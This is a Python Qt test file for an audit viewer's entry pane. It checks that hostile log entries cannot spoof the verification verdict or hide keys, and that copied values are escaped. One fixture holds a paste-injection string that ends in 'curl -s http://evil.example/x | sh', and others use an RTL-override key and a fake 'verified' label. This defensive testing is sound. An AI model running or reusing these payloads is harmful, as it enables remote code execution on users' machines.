"""The entry pane against hostile entries (issue 17: items 1, 6, 7, 8)."""

from __future__ import annotations

import json
from typing import Any

from PySide6.QtGui import QGuiApplication

from auditviewer.ui.models.json_model import CHILD_PAGE, JSON_PATH_ROLE, MORE_ROLE
from auditviewer.ui.widgets.json_pane import TAB_TEXT, TAB_TREE, MetadataPane

BAD_ID = "evt_000003  ·  ✔ verified" + " " * 400


def make(qtbot: Any) -> MetadataPane:
    pane = MetadataPane()
    qtbot.addWidget(pane)
    pane.resize(500, 500)
    pane.show()
    qtbot.waitExposed(pane)
    return pane


def _child(model: Any, parent: Any, path: str) -> Any:
    return next(
        model.index(r, 0, parent) for r in range(model.rowCount(parent))
        if model.index(r, 0, parent).data(JSON_PATH_ROLE) == path
    )


def test_data_never_pushes_out_the_verdict(qtbot: Any) -> None:
    pane = make(qtbot)
    entry = {"seq": 3, "time": "2026-09-01T00:00:03.000Z", "id": BAD_ID,
             "category": "✔ Verified " * 40, "action": "Update"}
    pane.set_entry(entry, state="failed")
    assert pane.verdict.text() == "✖ failed verification"
    assert pane.verdict.isVisible()
    # The verdict comes first, and data labels never carry it.
    assert pane.verdict.geometry().right() < pane.title.geometry().left()
    assert "failed" not in pane.subtitle.full_text()
    assert "✖" not in pane.title.full_text()
    # The data is elided to the pane's width, so it cannot widen the pane.
    assert pane.minimumSizeHint().width() < 500
    assert pane.subtitle.fontMetrics().horizontalAdvance(pane.subtitle.text()) <= pane.width()


def test_no_verdict_without_a_state(qtbot: Any) -> None:
    pane = make(qtbot)
    pane.set_entry({"seq": 1, "id": "✔ verified"})
    assert not pane.verdict.isVisible()
    assert pane.verdict.text() == ""


def test_many_keys_say_how_many_are_not_shown(qtbot: Any) -> None:
    pane = make(qtbot)
    metadata = {f"k{i:05d}": i for i in range(50_000)}
    metadata["zz_hidden"] = "added admin key for mallory@evil.example"
    pane.set_entry({"seq": 1, "metadata": metadata})
    pane.tabs.setCurrentIndex(TAB_TREE)
    model = pane.tree_model
    meta = _child(model, model.index(-1, -1), "$.metadata")
    rows = model.rowCount(meta)
    assert rows == CHILD_PAGE + 1
    more = model.index(rows - 1, 0, meta)
    assert more.data(MORE_ROLE) is True
    assert more.data() == f"… {50_001 - CHILD_PAGE:,} more (not shown)"
    # A double-click shows the next page; repeating reaches the last key.
    pane.tree.doubleClicked.emit(more)
    assert model.rowCount(meta) == 2 * CHILD_PAGE + 1
    while model.index(model.rowCount(meta) - 1, 0, meta).data(MORE_ROLE):
        model.fetch_more(model.index(model.rowCount(meta) - 1, 0, meta))
    last = model.index(model.rowCount(meta) - 1, 0, meta)
    assert last.data() == "zz_hidden"
    assert model.rowCount(meta) == 50_001
    # And the JSON tab shows all of it on request.
    pane.tabs.setCurrentIndex(TAB_TEXT)
    assert pane.show_all_button.isVisible()
    assert "Large entry" in pane.show_all_button.text()
    pane.show_all_button.click()
    assert "mallory@evil.example" in pane.text.toPlainText()


def test_copies_are_exact_and_escaped(qtbot: Any) -> None:
    pane = make(qtbot)
    value = "dep_7\x1b[201~\ncurl -s http://evil.example/x | sh\n"
    pane.set_entry({"seq": 1, "metadata": {"v": value, "\u202ekey": 1}}, leaf='{"seq":1}')
    pane.tabs.setCurrentIndex(TAB_TREE)
    model = pane.tree_model
    meta = _child(model, model.index(-1, -1), "$.metadata")
    pane.tree.setCurrentIndex(model.index(0, 0, meta))
    pane.copy_value()
    copied = QGuiApplication.clipboard().text()
    assert "\x1b" not in copied and "\n" not in copied
    assert json.loads(copied) == value  # exact, not truncated
    pane.tree.setCurrentIndex(model.index(1, 0, meta))
    pane.copy_path()
    path = QGuiApplication.clipboard().text()
    assert "\u202e" not in path
    assert path == '$.metadata["\\u202ekey"]'
    assert pane.copy_value_button.text() == "Copy value (JSON)"
    assert pane.copy_entry_button.text() == "Copy entry (stored JSON)"
